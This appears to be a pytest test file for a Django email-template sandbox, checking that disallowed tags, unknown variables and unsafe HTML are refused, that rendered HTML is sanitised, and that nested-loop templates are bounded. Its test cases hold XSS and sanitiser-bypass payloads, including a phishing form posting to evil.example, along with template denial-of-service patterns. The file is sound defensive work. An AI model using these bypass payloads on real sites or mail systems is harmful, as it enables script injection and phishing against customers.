"""Message templates are Django templates in a sandbox: documented variables only, no tags that reach out."""

import time

import pytest

from notifications import rendering


@pytest.mark.parametrize(
    "source",
    [
        "{% load static %}",
        '{% include "base.html" %}',
        '{% extends "base.html" %}',
        "{% debug %}",
        '{% url "core:index" %}',
        "{% csrf_token %}",
        "{{ status_url|safe }}",
        "{{ item|slice:':3' }}",
        "{% if %}",
        "{{ customer_name.__class__ }}",
    ],
)
def test_tags_and_filters_outside_the_sandbox_are_refused_with_a_message(source):
    with pytest.raises(rendering.TemplateProblem, match="The template has an error"):
        rendering.check(source, html=False)


@pytest.mark.parametrize("name", ["customer", "item.customer", "settings", "request", "user.password"])
def test_unknown_variables_are_named_in_the_message(name):
    with pytest.raises(rendering.TemplateProblem, match="Unknown variable"):
        rendering.check(f"Hello {{{{ {name} }}}}", html=False)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<p onclick="x()">Hi</p>',
        '<p style="color:red">Hi</p>',
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=x></iframe>",
        "<form action=x></form>",
    ],
)
def test_html_with_scripts_styles_or_frames_is_refused(html):
    with pytest.raises(rendering.TemplateProblem, match="is not allowed"):
        rendering.check(html, html=True)


def test_every_documented_variable_can_be_used():
    source = " ".join(f"{{{{ {name} }}}}" for name in rendering.VARIABLES)
    output = rendering.check(source, html=False)
    assert "SC-000123" in output and "Rosa Reyes" in output


def test_the_allowed_tags_and_filters_work():
    source = "{% if promised_on %}By {{ promised_on|upper }}{% endif %}{% for x in '' %}{% empty %}!{% endfor %}"
    assert rendering.check(source, html=False) == "By 4 DECEMBER 2026!"


def test_the_layout_adds_the_shop_and_the_unsubscribe_link_to_both_parts(settings):
    settings.SHOP_NAME = "Reef Repairs"
    message = rendering.render_message(
        subject="Hi {{ customer_name }}\nthere",
        body_text="Text",
        body_html="",
        context=rendering.sample_context(),
        unsubscribe_url="http://127.0.0.1:8000/messages/unsubscribe/abc/",
    )
    assert message.subject == "Hi Rosa Reyes there"  # one line
    for part in (message.text, message.html):
        assert "Reef Repairs" in part and "/messages/unsubscribe/abc/" in part
    assert "<p>Text</p>" in message.html  # the plain text becomes the HTML when there is none


# HTML that reaches a customer: sanitised after rendering, whatever the template does ----------------------------

# The probe's payloads: forbidden words split by comments, or made of the literals of firstof, with and default.
BYPASSES = [
    "<scr{# #}ipt>alert(document.domain)</scr{# #}ipt>",
    '<a href="java{##}script:alert(3)">click</a>',
    '<fo{##}rm action="http://evil.example/phish"><input name=card></fo{##}rm>',
    '{% firstof "<scr" %}ipt>alert(1)</script>',
    '{% with a="<scr" %}{{ a }}{% endwith %}ipt>alert(1)</script>',
    '<img src=x on{##}error="alert(1)">',
    '<p sty{##}le="background:url(x)">Hi</p>',
    '{{ model|default:"<iframe src=//evil.example>" }}</iframe>',
    '<a href="{{ status_url|yesno:"javascript:alert(1),x" }}">x</a>',
]
UNSAFE_OUTPUT = ("<script", "javascript:", "<form", "<input", "onerror", "style=", "<iframe")


@pytest.mark.parametrize("body_html", BYPASSES)
def test_html_that_reaches_a_customer_is_sanitised_whatever_the_template_does(body_html):
    """A template saved before the editor knew these (or written straight into the database) still sends nothing
    that runs: the rendered HTML goes through an allow-list."""
    context = {**rendering.sample_context(), "model": ""}
    message = rendering.render_message(
        subject="Hi", body_text="Text", body_html=f"<p>Hi {{{{ customer_name }}}}</p>{body_html}", context=context,
        unsubscribe_url="http://127.0.0.1:8000/messages/unsubscribe/abc/",
    )  # fmt: skip
    for part in (message.html, message.content):
        assert "<p>Hi Rosa Reyes</p>" in part
        assert not any(unsafe in part.lower() for unsafe in UNSAFE_OUTPUT), part


@pytest.mark.parametrize("body_html", BYPASSES[:7])
def test_the_editor_refuses_html_that_only_becomes_unsafe_when_rendered(body_html):
    with pytest.raises(rendering.TemplateProblem, match="is not allowed"):
        rendering.check(body_html, html=True)


def test_the_allowed_html_is_kept():
    html = (
        '<p>Hello <strong>Rosa</strong>, <em>see</em> <a href="https://shop.example/x">this</a> or '
        '<a href="mailto:shop@example.com">mail us</a>.</p><ul><li>one</li></ul><img src="https://shop.example/l.png" '
        'alt="Logo" width="10" height="10"><table><tr><th scope="col">A</th></tr><tr><td>1</td></tr></table>'
    )
    cleaned = rendering.sanitise_html(html)
    for kept in ("<strong>Rosa</strong>", "<em>see</em>", 'href="https://shop.example/x"', 'href="mailto:shop@',
                 "<li>one</li>", 'alt="Logo"', '<th scope="col">A</th>', "<td>1</td>"):  # fmt: skip
        assert kept in cleaned


def test_the_plain_text_part_is_plain_text_not_safe_html():
    message = rendering.render_message(
        subject="Hi", body_text="<h1 id=INJ1>big</h1>", body_html="", context=rendering.sample_context(),
        unsubscribe_url="http://127.0.0.1:8000/messages/unsubscribe/abc/",
    )  # fmt: skip
    assert "<h1 id=INJ1>big</h1>" in message.text  # as typed: a mail's text part is not HTML
    assert type(message.text) is str  # so any page that shows it escapes it
    assert "<h1" not in message.html and "&lt;h1 id=INJ1&gt;" in message.html


# Bounds: no template can keep a worker busy -----------------------------------------------------------------------


def nest(n, over="status_url"):
    return ("{% for a in " + over + " %}") * n + "{% endfor %}" * n


@pytest.mark.parametrize("source", [nest(2), nest(6), "{% for a in item %}{% empty %}" + nest(1) + "{% endfor %}"])
def test_a_loop_inside_a_loop_is_refused_with_a_clear_message(source):
    with pytest.raises(rendering.TemplateProblem, match="a loop inside a loop is not allowed"):
        rendering.check(source, html=False)


def test_the_probes_guarded_bomb_is_refused_when_saved():
    """Hidden behind a condition false for the sample data: the loops inside loops are refused as written."""
    source = '{% if customer_name != "Rosa Reyes" %}' + nest(6) + "{% endif %}"
    with pytest.raises(rendering.TemplateProblem, match="a loop inside a loop"):
        rendering.check(source, html=False)


def test_a_guarded_loop_that_would_write_too_much_is_refused_when_saved():
    """The editor renders again with long values, which take the other way through the condition."""
    source = '{% if customer_name != "Rosa Reyes" %}{% for a in service_due %}{{ service_due }}{% endfor %}{% endif %}'
    with pytest.raises(rendering.TemplateProblem, match=r"With longer values .* too long"):
        rendering.check(source, html=False)


def render_body(source, **values):
    return rendering.render_message(
        subject="Hi", body_text=source, body_html="", context={**rendering.sample_context(), **values},
        unsubscribe_url="http://127.0.0.1:8000/messages/unsubscribe/abc/",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("source", "values", "reason"),
    [
        (nest(2), {}, "a loop inside a loop is not allowed"),
        ("{% for a in service_due %}.{% endfor %}", {"service_due": "x" * 100_000}, "may go round at most 500 times"),
        ("{% for a in service_due %}.{% endfor %}" * 3, {"service_due": "x" * 200}, "may go round at most 500 times"),
        ("{% for a in status_url %}{{ service_due }}{% endfor %}", {"service_due": "x" * 5000}, "too long"),
        ("{{ service_due }}" * 300, {"service_due": "x" * 5000}, "too long"),
    ],
)
def test_rendering_a_hostile_template_fails_quickly_with_the_reason(source, values, reason):
    """What the worker does with a template saved before these bounds existed (or with real data longer than the
    sample's): it stops at once with a reason for staff."""
    started = time.perf_counter()
    with pytest.raises(rendering.TemplateProblem, match=reason):
        render_body(source, **values)
    assert time.perf_counter() - started < 0.5


def test_loops_within_the_bounds_still_work():
    message = render_body("{% for c in control_number %}{{ c }}{% if not forloop.last %}-{% endif %}{% endfor %}")
    assert message.text.startswith("S-C---0-0-0-1-2-3")
